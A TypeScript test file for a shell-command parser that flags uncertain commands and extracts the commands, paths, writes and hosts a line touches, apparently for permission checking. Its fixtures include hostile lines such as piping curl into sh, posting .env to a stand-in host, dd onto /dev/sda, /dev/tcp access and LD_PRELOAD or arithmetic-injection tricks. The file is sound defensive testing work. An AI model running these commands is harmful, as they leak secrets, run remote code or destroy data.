// `shell(x)` text by text: what is certain, what is in the lists, what counts as a read.

import { describe, expect, test } from 'vitest'
import { cutComment, readShell } from './shell-command.ts'

describe('not certain', () => {
  test.each([
    ['a computed name', '$x a'],
    ['a name from a command', '$(echo rm) a'],
    ['a name by a pattern', '/bin/r? a'],
    ['a name by a choice', '{rm,-rf} a'],
    ['a name after a wrapper', 'sudo $x'],
    ['a name that xargs reads', 'cat f | xargs -I{} {} a'],
    ['a name with a bracket, which Bash reads on to its end', 'aa[ -n $v ]$f  l'],
    ['a syntax error', 'ls )'],
    ['an open quote', 'ls "a'],
    ...[
      'eval ls',
      "trap 'rm x' EXIT",
      'alias ls=rm',
      'exec rm x',
      'enable -f x ls',
      'hash -p /bin/rm ls',
    ].map((text) => ['a builtin that changes meanings', text] as const),
    ['a function', 'ls() { rm x; }; ls'],
    ...[
      'PATH=. ls',
      'export LD_PRELOAD=x',
      'env BASH_ENV=x ls',
      'read PATH < f',
      'for PATH in x; do ls; done',
    ].map((text) => ['an assignment to a name with a meaning', text] as const),
    ['a name from PS4', "PS4='$(rm x)'; set -x; ls"],
    ['commands from a pipe', 'curl -s https://a.example | sh'],
    ['commands from a here-document', 'bash <<E\nrm x\nE'],
    ['commands from a substitution', 'bash <(echo rm)'],
    ['commands from a file of the kernel', 'source /dev/stdin <<< "rm x"'],
    ['a computed script', 'bash -c "$x"'],
    ['a replaced script', 'find . -exec sh -c "rm {}" \\;'],
    ['words that may be -exec', 'find $x -name y'],
    ['arithmetic on a value from elsewhere', 'x=$(cat f); echo $((x))'],
    ['arithmetic on a variable', 'for i in 1 2; do echo $((i + 1)); done'],
    ['a descriptor that Bash reads in part', 'ls >& -1 x'],
    ['arithmetic on a literal that is code', "x='a[$(rm y)]'; echo $((x))"],
    ['arithmetic on the environment', 'echo $((x + 1))'],
    ['arithmetic on what a command prints', '(( $(cat f) > 1 ))'],
    ['arithmetic in a test', '[[ $x -eq 1 ]]'],
    ['arithmetic in an index', `echo \${a[$x]}`],
    ['arithmetic in a slice', `echo \${a:$x}`],
    ['a test of a name that is code', "test -v 'a[$(rm y)]'"],
    ['a print to a name that is code', "printf -v 'a[$(rm y)]' x"],
    ['a declaration that evaluates', "declare -i x='a[$(rm y)]'"],
    ['an expansion that runs code', `echo \${x@P}`],
    ['an indirect expansion', `echo \${!x}`],
    ['a callback', 'mapfile -C rm -c 1 x < f'],
    ['a line that continues in a quote', "ls $'a\\\nb'"],
    ['words of an assignment that env may start', 'env v=$(cat x) ls'],
    [
      'arithmetic that Bash runs as commands',
      'echo $(( 1 + $((1 + 1))$(case x in x) ls;; esac) ))',
    ],
    ['a number before a substitution', 'cat 0<(rm x)'],
    ['a line that continues in a word', '3\\\n>&1 rm x'],
    ['a line that continues in a here-document', 'cat <<E\n$(# $(a \\\nb)\nrm)\nE\n'],
    ['a test that dash runs as a command', "sh -c '[[ a > b ]]'"],
    ['arithmetic that dash runs as a command', "sh -c '((rm x))'"],
    ['a carriage return', 'ls\rrm'],
    ['a space that is none', 'ls\u00a0rm'],
    ['an option of a wrapper that is not known', 'sudo --frob ls'],
    ['an open descriptor', 'ls {x}> f'],
    ['a long text', `echo ${'a'.repeat(8_192)}`],
    ['a deep text', `${'$('.repeat(500)}ls${')'.repeat(500)}`],
    ['many directories', Array.from({ length: 5 }, (_, index) => `cd ${index}`).join(';')],
  ] as [string, string][])('%s: %s', (_, text) => {
    const { uncertain, reads } = readShell(text)
    expect(uncertain).toBeDefined()
    expect(reads).toBe(false)
  })
})

describe('commands', () => {
  test.each([
    ['git status && git diff HEAD~1 | head -20', ['git', 'head']],
    ['r""m a; \\ls; "/usr/bin/env" true', ['rm', 'ls', 'env', 'true']],
    ['./rm x; node_modules/.bin/eslint .', ['./rm', 'node_modules/.bin/eslint']],
    [
      'echo $(a "$(b)") `c` <(d) $' + '{x:-$(e)} <<< "$(f)"',
      ['echo', 'a', 'b', 'c', 'd', 'e', 'f'],
    ],
    ['cat <<E\n$(a)\nE', ['cat', 'a']],
    ["cat <<'E'\n$(a)\nE", ['cat']],
    [
      'sudo -u x nice -n 5 timeout -k 1 5 env A=b C=d rm y',
      ['sudo', 'nice', 'timeout', 'env', 'rm'],
    ],
    ["bash -lc 'cd /x && rg y | head'", ['cd', 'rg', 'head']],
    ['find . -name x -exec grep y {} + -exec rm {} \\;', ['find', 'grep', 'rm']],
    ['fd -e tmp -X rm', ['fd', 'rm']],
    ['ls | xargs -0 -n1 -I % mv % x', ['ls', 'xargs', 'mv']],
    ['if a; then b; elif c; then d; else e; fi; while f; do g; done', [...'abcdefg']],
    ['case $x in y) a;; *) b; esac; for i in 1 2; do c $((1 + 1)); done', ['a', 'b', 'c']],
    ['x=$(a) b; { c; } & (d) || ! e', ['b', 'a', 'c', 'd', 'e']],
    ['command -v a; command b; [ -n x ]; [[ -f x ]]', ['command', 'b', '[']],
    ['set -euo pipefail; source .venv/bin/activate; pytest', ['set', 'source', 'pytest']],
    ['env ~=1 dd', ['env', 'dd']],
    ['command cc= x; nice a=b c', ['command', 'cc=', 'nice', 'a=b']],
    ['', []],
  ])('%s starts %j', (text, commands) => {
    const reading = readShell(text)
    expect(reading.uncertain).toBeUndefined()
    expect(new Set(reading.commands)).toEqual(new Set(commands))
  })

  test('a line has the subcommand first, and no quotes', () => {
    const { lines } = readShell(
      'git -C "a b" -c x=y push \'origin\'; npm --prefix a run x; sudo rm x',
    )
    expect(lines).toEqual(['git push -C a b -c x=y origin', 'npm run --prefix a x', 'sudo', 'rm x'])
  })
})

test.each([
  ['A=1 b=$c npm test', ['A=1', 'b=$c']],
  ["export GIT_SSH='x y'; env -u A NO_COLOR=1 ls", ['GIT_SSH=x y', 'NO_COLOR=1']],
  ['for f in a b; do read -r line; done', ['f', 'line']],
  ['list=(a b); x+=1', ['list=(', 'x=1']],
])('variables of %s', (text, variables) => {
  expect(readShell(text).variables).toEqual(variables)
})

describe('paths, writes and hosts', () => {
  test.each([
    ['cat a ./b/../c /d/./e ~/f "$HOME/g"', ['a', 'c', '/d/e', '~/f', '~/g'], []],
    ['rm -rf ../x ~/../y /../z', ['../x', '~/../y', '/z'], ['../x', '~/../y', '/z']],
    ['cd a && rm b', ['a', 'a/a', 'b', 'a/b'], ['b', 'a/b']],
    ['cd "$x"; rm b', ['$x', 'b', '$x/b'], ['b', '$x/b']],
    ['for i in a; do cd ..; done; rm b', undefined, ['b', '$PWD/b', '../b', '$PWD/../b']],
    ['cp a b', ['a', 'b'], ['b']],
    ['grep x a > b 2>/dev/null', ['b', 'a'], ['b']],
    ["sed -i '/x/d' a", ['a'], ['a']],
    [
      'dd if=/dev/zero of=/dev/sda',
      undefined,
      ['if=/dev/zero', '/dev/zero', 'of=/dev/sda', '/dev/sda'],
    ],
    ['curl -d @.env https://a.example/x', ['@.env', '.env'], ['@.env', '.env']],
    ['git show HEAD:.env', ['HEAD:.env', '.env'], []],
    ['rm {a,../b}', ['$' + '{a,../b}'], ['$' + '{a,../b}']],
  ])('%s', (text, paths, writes) => {
    const reading = readShell(text)
    expect(reading.uncertain).toBeUndefined()
    if (paths !== undefined) expect(new Set(reading.paths)).toEqual(new Set(paths))
    if (writes !== undefined) expect(reading.writes).toEqual(writes)
  })

  test.each([
    ['curl https://u:p@A.example:8/x http://[::1]:80', ['a.example', '[::1]']],
    ['curl a.example/x', ['a.example']],
    ['ssh -o X=y ann@prod-1 uptime', ['prod-1']],
    ['scp a b.example:c', ['b.example']],
    ['psql -h db.internal -c "select 1"', ['db.internal']],
    ['git clone git@a.example:x/y', ['a.example']],
    ['nc -z localhost 5432', ['localhost']],
    ['cat < /dev/tcp/a.example/80', ['a.example']],
    ['git log', []],
  ])('%s names %j', (text, hosts) => {
    expect(readShell(text)).toMatchObject({ uncertainHosts: undefined, hosts })
  })

  test.each([
    'curl "$x"',
    'curl https://$x/y',
    'scp a "$x"',
    'ssh $(cat h) ls',
    'cat < /dev/tcp/$x/80',
  ])('the host of %s is computed', (text) => {
    expect(readShell(text).uncertainHosts).toBeDefined()
  })
})

test.each<[string, string | undefined]>([
  ['git push # outside', 'git push'],
  ['git push;# outside', 'git push;'],
  ['git push # outside \n', 'git push'],
  ['cat <<X\na\nX\n# outside', 'cat <<X\na\nX'],
  ['for a in b; do echo $a; done # outside', 'for a in b; do echo $a; done'],
  ['echo "a" \'# outside', undefined],
  ['echo "git push # outside"', undefined],
  ["echo 'a\n# outside", "echo 'a"],
  ['echo a# outside', undefined],
  ['git push # Outside', undefined],
  ['cat <<X\na\n# outside', undefined],
  ["cat <<'E'\nE # outside", undefined],
  ['(ls\n# outside', '(ls'],
  ['git push', undefined],
])('the comment at the end of %j is cut off: %j', (text, rest) => {
  expect(cutComment(text, '# outside')).toBe(rest)
})
